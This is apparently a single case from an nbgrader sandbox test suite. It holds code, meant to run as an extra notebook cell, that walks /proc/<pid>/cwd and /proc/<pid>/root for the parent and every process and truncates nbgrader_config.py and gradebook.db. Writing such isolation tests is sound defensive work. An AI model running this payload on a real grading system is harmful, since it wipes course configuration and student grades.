"""Reach the course through /proc/<pid>/cwd and /proc/<pid>/root of the parent and of every process, and truncate nbgrader_config.py and the gradebook."""
WHERE = "extra-cell"
CODE = '''
import os

pids = [str(os.getppid())]
try:
    pids += [p for p in os.listdir("/proc") if p.isdigit()]
except OSError as error:
    print("/proc", type(error).__name__)
reached = []
for pid in pids:
    for link in ("cwd", "root"):
        for name in ("nbgrader_config.py", "gradebook.db", "@COURSE@/nbgrader_config.py"):
            path = os.path.join(f"/proc/{pid}/{link}", name.lstrip("/"))
            try:
                with open(path, "r+b") as handle:
                    handle.truncate(0)
                reached.append(path)
            except OSError:
                pass
print("reached", reached)
'''
EXPECT = {"*": "full"}
